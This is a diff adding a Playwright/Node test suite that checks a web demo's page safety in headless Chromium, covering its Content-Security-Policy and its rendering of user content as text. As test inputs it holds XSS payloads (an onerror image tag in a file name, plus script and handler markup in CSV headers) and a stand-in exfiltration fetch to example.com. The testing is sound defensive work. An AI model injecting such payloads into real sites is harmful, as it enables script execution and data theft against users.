@@ -1,0 +1,161 @@
+// Page safety of the demo (issue 9, part 5) in headless Chromium, as web-demo.test.mjs drives it:
+// user content (a file named like markup, CSV headers holding markup and script) is shown as text
+// and never run; the Content-Security-Policy (meta tag and served header) names no remote origin and
+// the browser enforces it; no request leaves the page's origin. Skipped only without /usr/bin/chromium.
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { test } from 'node:test';
+
+import { repoRoot } from './helpers.mjs';
+
+const CHROMIUM = '/usr/bin/chromium';
+const webDir = join(repoRoot, 'web');
+// Source expressions that keep a policy on this origin; anything else (a host, https:, *) is remote.
+const LOCAL_SOURCES = new Set(["'self'", "'none'", "'unsafe-inline'", "'wasm-unsafe-eval'", 'data:', 'blob:']);
+
+function remoteSources(policy) {
+  const remote = [];
+  for (const directive of policy.split(';').map((d) => d.trim()).filter(Boolean)) {
+    const [, ...sources] = directive.split(/\s+/);
+    for (const s of sources) if (!LOCAL_SOURCES.has(s)) remote.push(`${directive.split(/\s+/)[0]} ${s}`);
+  }
+  return remote;
+}
+
+test('the CSP meta tag names no remote origin and forbids scripts from strings', () => {
+  const html = readFileSync(join(webDir, 'index.html'), 'utf8');
+  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)"/);
+  assert.ok(meta, 'web/index.html has a Content-Security-Policy meta tag');
+  assert.deepEqual(remoteSources(meta[1]), []);
+  assert.match(meta[1], /default-src 'self'/);
+  assert.doesNotMatch(meta[1], /'unsafe-eval'/, "'unsafe-eval' would let strings run as code");
+  assert.match(meta[1], /script-src 'self' 'wasm-unsafe-eval'(;|$)/);
+});
+
+test('page safety in headless Chromium', { timeout: 300_000 }, async (t) => {
+  if (!existsSync(CHROMIUM)) {
+    t.skip('no /usr/bin/chromium (apt-get install chromium; scripts/install-deps.sh does)');
+    return;
+  }
+  const { chromium } = createRequire(join(webDir, 'package.json'))('playwright-core');
+  execFileSync(process.execPath, [join(webDir, 'scripts/vendor.mjs')], { stdio: 'inherit' });
+  const { createDemoServer, listen, CONTENT_SECURITY_POLICY } = await import(pathToFileURL(join(webDir, 'serve.mjs')).href);
+
+  const server = createDemoServer();
+  const origin = await listen(server, 0);
+  const tmp = mkdtempSync(join(tmpdir(), 'wasmetrics-safety-'));
+  const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
+  const page = await (await browser.newContext()).newPage();
+  // Every request to another origin, and how it ended: Chromium reports a request the CSP blocks
+  // too (failed with net::ERR_BLOCKED_BY_CSP); (Playwright says "csp"); only such a blocked one has not left the page.
+  const foreign = new Map();
+  const isForeign = (url) => !url.startsWith(origin + '/') && !url.startsWith(`blob:${origin}/`) && !url.startsWith('data:');
+  const dialogs = [];
+  page.on('request', (r) => {
+    if (isForeign(r.url())) foreign.set(r.url(), 'pending');
+  });
+  page.on('requestfailed', (r) => {
+    if (isForeign(r.url())) foreign.set(r.url(), r.failure()?.errorText ?? 'failed');
+  });
+  page.on('requestfinished', (r) => {
+    if (isForeign(r.url())) foreign.set(r.url(), 'finished');
+  });
+  page.on('dialog', (d) => {
+    dialogs.push(d.message());
+    d.dismiss().catch(() => {});
+  });
+  const settled = async () => {
+    for (;;) {
+      await page.waitForFunction(() => ['ready', 'error'].includes(document.body.dataset.state), null, { timeout: 120_000 });
+      await page.waitForTimeout(200);
+      const state = await page.evaluate(() => document.body.dataset.state);
+      if (state === 'ready' || state === 'error') return state;
+    }
+  };
+
+  try {
+    await t.test('the served page carries the same local-only CSP as a header', async () => {
+      const res = await fetch(origin + '/web/');
+      const header = res.headers.get('content-security-policy');
+      assert.equal(header, CONTENT_SECURITY_POLICY);
+      assert.deepEqual(remoteSources(header), []);
+      assert.match(header, /frame-ancestors 'none'/);
+    });
+
+    await page.goto(origin + '/web/');
+    await settled();
+    // Canaries: what injected markup would do if it ran.
+    await page.evaluate(() => {
+      window.__pwned = [];
+      document.addEventListener('securitypolicyviolation', (e) => (window.__violations ??= []).push(`${e.violatedDirective} ${e.blockedURI}`));
+    });
+
+    await t.test('a file named like markup and CSV headers holding markup are text, never run', async () => {
+      const fileName = '<img src=x onerror=alert(1)>.csv';
+      const headers = ['<b>score</b>', '<img src=y onerror="__pwned.push(2)">', '<script>__pwned.push(3)</script>'];
+      const rows = Array.from({ length: 40 }, (_, i) => `${((i * 37) % 100) / 100},${i % 2},${(i * 13) % 7}`);
+      const path = join(tmp, fileName);
+      writeFileSync(path, headers.join(',') + '\n' + rows.join('\n') + '\n');
+      await page.setInputFiles('#file-pred', path);
+      await settled();
+      await page.waitForTimeout(500); // an onerror of a broken <img> fires asynchronously
+      assert.deepEqual(dialogs, [], 'no alert() ran');
+      assert.deepEqual(await page.evaluate(() => window.__pwned), [], 'no injected handler or script ran');
+      // The name is shown verbatim as text, and no element was made from it or from the headers.
+      assert.ok((await page.textContent('body')).includes(fileName), 'the file name is shown as text');
+      assert.equal(await page.$$eval('img[src="x"], img[src="y"], b', (els) => els.length), 0);
+      assert.equal(await page.$$eval('script', (els) => els.filter((s) => !s.src).length), 0, 'no inline <script> element');
+      const body = await page.textContent('body');
+      for (const h of headers) assert.ok(body.includes(h), `header ${h} shown as text`);
+    });
+
+    await t.test('the browser enforces the CSP: remote fetches, remote images and inline scripts are refused', async () => {
+      const result = await page.evaluate(async () => {
+        const out = {};
+        try {
+          await fetch('https://example.com/exfiltrate');
+          out.fetch = 'sent';
+        } catch (e) {
+          out.fetch = e.name;
+        }
+        // An inline script made from a string (as injected markup would be) is refused. (eval is
+        // not tested here: DevTools evaluation, which drives this, is exempt from the CSP.)
+        window.__inline = 0;
+        const script = document.createElement('script');
+        script.textContent = 'window.__inline = 1';
+        document.body.append(script);
+        out.inline = window.__inline;
+        script.remove();
+        const img = document.createElement('img');
+        img.src = 'https://example.com/pixel.png';
+        document.body.append(img);
+        await new Promise((r) => setTimeout(r, 300));
+        img.remove();
+        out.violations = window.__violations ?? [];
+        return out;
+      });
+      assert.equal(result.fetch, 'TypeError', 'a cross-origin fetch is refused');
+      assert.equal(result.inline, 0, 'an inline script is refused');
+      assert.ok(result.violations.some((v) => v.startsWith('script-src')), JSON.stringify(result.violations));
+      assert.ok(result.violations.some((v) => v.startsWith('connect-src https://example.com')), JSON.stringify(result.violations));
+      assert.ok(result.violations.some((v) => v.startsWith('img-src https://example.com')), JSON.stringify(result.violations));
+    });
+
+    await t.test('no request left the page\'s origin', async () => {
+      await page.waitForTimeout(200);
+      for (const [url, outcome] of foreign) {
+        assert.ok(url.startsWith('https://example.com/'), `a request to ${url} was made by the page itself`);
+        assert.match(outcome, /ERR_BLOCKED_BY_CSP|^csp$/, `${url} was not blocked by the CSP (${outcome})`);
+      }
+    });
+  } finally {
+    await browser.close();
+    server.close();
+    rmSync(tmp, { recursive: true, force: true });
+  }
+});
